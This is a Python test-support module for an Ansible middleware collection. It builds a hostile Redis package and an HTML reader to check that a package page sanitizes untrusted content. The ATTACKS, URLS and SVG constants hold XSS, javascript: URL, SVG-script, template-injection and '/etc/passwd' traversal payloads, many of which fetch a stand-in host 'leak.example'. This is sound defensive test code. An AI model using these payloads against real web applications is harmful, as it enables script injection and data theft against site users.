# Copyright: (c) 2026, acmp.middleware contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What the tests of a package's page share: packages that attack it wherever they can, and a reader of HTML that trusts nothing."""

from __future__ import annotations

import base64
import copy
import json
from html.parser import HTMLParser
from pathlib import Path

from ansible_collections.acmp.middleware.plugins.module_utils.package import archive, yaml_reader
from ansible_collections.acmp.middleware.plugins.module_utils.package.tree import FileTree

ROOT = Path(__file__).resolve().parents[3]
REDIS = ROOT / "examples" / "packages" / "redis"
# A host that is nobody's: whatever asks for it was let through.
LEAK = "http://leak.example"
RUN = f"document.documentElement.setAttribute('data-ran','1');fetch('{LEAK}/run')"

ATTACKS = (
    f"<script>{RUN}</script>",
    f"\"><img src=x onerror=\"{RUN}\">",
    f"'><svg onload=\"{RUN}\">",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--></pre></code><script>{RUN}</script><!--",
    f"<img src={LEAK}/img>",
    f"<link rel=stylesheet href={LEAK}/css>",
    f"<style>@import url({LEAK}/css)</style>",
    f"<meta http-equiv=refresh content=\"0;url={LEAK}/refresh\">",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<base href={LEAK}/>",
    f"<a href=\"javascript:{RUN}\" autofocus onfocus=\"{RUN}\">x</a>",
    f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    f"\" style=\"background:url({LEAK}/bg)\" onmouseover=\"{RUN}\" x=\"",
    f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% raw %}",
)
URLS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}", "vbscript:msgbox(1)",
    f"data:text/html,<script>{RUN}</script>", "file:///etc/passwd", "//leak.example/x", "https://", "https:leak.example", "http:///x",
    f"https://a.example/\" onclick=\"{RUN}", "https://a.example\\@leak.example", "ftp://a.example", "blob:https://a.example/1", "http://[",
)
SVG = f"""<?xml version="1.0"?><!-- a logo --><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUN}">
<script>{RUN.replace("&", "&amp;")}</script><image href="{LEAK}/svg" width="9" height="9"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml"
 src="{LEAK}/foreign"/></foreignObject><style>@import url("{LEAK}/svgcss");</style><rect width="9" height="9" fill="url({LEAK}/fill#a)"/></svg>"""


def readme() -> str:
    """Markdown with every attack as text, in a link, in a picture, in code, in a table, in a heading, and as a reference."""
    lines = ["# " + ATTACKS[0], "", f"[in a fence]({LEAK}/ok)", ""]
    for attack in ATTACKS:
        lines += [attack, "", f"## {attack}", "", f"`{attack}`", "", f"| a | b |\n|---|:-:|\n| {attack.replace('|', '')} | x |", ""]
        lines += [f"> {attack}", "", f"[{attack}](#x)", ""]
        lines += [f"```html {attack}", attack, "```", "", f"![{attack}](logo.svg \"{attack}\")", ""]
    for url in URLS:
        lines += [f"[link](<{url}>)", f"[link]({url.replace(' ', '%20')})", f"![picture]({url.replace(' ', '%20')})", f"<{url}>", ""]
        lines += [f"[entity]({url.replace(':', '&colon;').replace('j', '&#106;')})", f"[up](%6aavascript:{RUN})", ""]
    lines += [f"[mail](mailto:a@b.example?cc={LEAK})", f"![out]({LEAK}/readme.png)", "![up](../../etc/passwd)", "![ok](logo.svg)", "![none](metadata.yaml)"]
    return "\n".join([*lines, "", "[ref]", "", f"[ref]: javascript:{RUN}", ""])


def hostile(attack: str) -> FileTree:
    """The Redis package with an attack in every text a page shows, and in its pictures."""
    tree = archive.read_folder(str(REDIS))
    metadata = yaml_reader.load(tree["metadata.yaml"], "metadata.yaml", ("version", "appVersion"))
    for key in ("alias", "displayName", "description", "containerImage", "repository"):
        metadata[key] = attack
    metadata.update(
        appVersion=attack[:60], categories=[attack, attack], industries=[attack], maintainers=[{"name": attack, "email": attack}, {"email": attack}],
        provider={"name": attack, "url": "https://a.example/" + attack},
        links=[{"name": attack, "url": "https://a.example/" + attack}, {"url": "http://" + attack}],
        security={"anonymousAccess": True, "risk": attack},
        logo={"mediatype": "image/svg+xml", "base64data": base64.b64encode(SVG.encode()).decode()},
    )
    csv = yaml_reader.load(tree["manifests/csv.yaml"], "csv.yaml")
    owned = csv["spec"]["customresourcedefinitions"]["owned"][0]
    owned["description"] = owned["displayName"] = attack
    for item in owned["specDescriptors"] + owned["statusDescriptors"]:
        item["displayName"] = item["description"] = attack
        item["x-descriptors"] += [f"urn:alm:descriptor:com.tectonic.ui:fieldGroup:{attack}", f"urn:alm:descriptor:com.tectonic.ui:select:{attack}"]
    owned["specDescriptors"].append({"path": 'values.config["', "displayName": "x", "description": "x"} | {"path": f"values.config.extra.{_key(attack)}"})
    documents = yaml_reader.load_all(tree["manifests/default-cr.yaml"], "default-cr.yaml")
    for number, document in enumerate(documents):
        document["metadata"]["annotations"] = {
            "operators.apusic.com/instance-type": f"{number}{attack}"[:63].strip(), "operators.apusic.com/instance-type-description": attack}
        document["metadata"]["name"] = attack
        document["spec"]["values"] = {"config": {"extra": {attack: attack}}, "replicas": attack, "image": {"tag": attack}, "persistence": {"size": [attack]}}
    return tree.with_files({
        "metadata.yaml": json.dumps(metadata), "manifests/csv.yaml": json.dumps(csv), "README.md": readme(), "logo.svg": SVG,
        "manifests/default-cr.yaml": yaml_reader.dump_all(copy.deepcopy(documents)),
        **{path: json.dumps({"apiVersion": "operators.apusic.com/v1alpha1", **document}) for path, document in _operation(attack).items()},
        "application.yaml": json.dumps({
            "apiVersion": "operators.apusic.com/v1alpha1", "kind": "Application",
            "spec": {"type": "helm", "templateType": "helm", "manifests": {}, "upgrade": {"replaces": "0.9.0", "skipRange": ">=0.1.0 <1.0.0"}},
        }),
    })


def _operation(attack: str) -> dict:
    """Log, monitor and alarm configuration, config.yaml and an action, with the attack wherever a text may stand."""
    alarm = {"alert": attack, "expr": attack, "labels": {"severity": "info", "x": attack}, "annotations": {
        "summary": attack, "description": attack, "runbook_url": f"https://a.example/{attack}"}}
    level = {"name": attack, "groupLabel": attack, "selectedMetrics": [attack], "metrics": [{"title": attack, "expr": attack, "unitType": attack}]}
    parameter = {"name": attack, "type": "string", "default": attack, "choices": [attack, "x"], "description": attack}
    return {
        "manifests/dependence/log-service.yaml": {"kind": "LogConfig", "spec": {
            "logConfigItems": [{"name": attack, "labelSelector": {attack: "a"}, "path": f"/{attack}"}]}},
        "manifests/dependence/monitor-service.yaml": {"kind": "MonitorConfig", "spec": {
            "monitorConfigItems": [{"labelSelector": {"a": "b"}, "prometheus": {"port": attack, "displayOptions": {"levels": [level]}}}]}},
        "manifests/dependence/alarm-service.yaml": {"kind": "AlarmConfig", "spec": {"groups": [{"name": attack, "rules": [alarm]}]}},
        "config.yaml": {"kind": "ConfigSchema", "spec": {"configs": [{"configMap": "a", "key": "b", "parameters": [parameter]}]}},
        "op-redis-attack.yaml": {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": attack}},
    }


def _key(text: str) -> str:
    return "".join(f"\\{char}" if char in "\\.[]" else char for char in text)


class Reader(HTMLParser):
    """Everything a page holds: elements as (name, attributes), texts, the content of style."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.open: list[str] = []
        self.texts: list[str] = []
        self.styles: list[str] = []
        self.comments: list[str] = []
        self.unclosed: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert len(attrs) == len(dict(attrs)), f"{tag} has an attribute twice"
        self.elements.append((tag, dict(attrs)))
        if tag not in ("img", "meta", "br", "hr", "wbr"):
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.unclosed.append(tag)

    def handle_data(self, data):
        (self.styles if self.open[-1:] == ["style"] else self.texts).append(data)

    def handle_comment(self, data):
        self.comments.append(data)
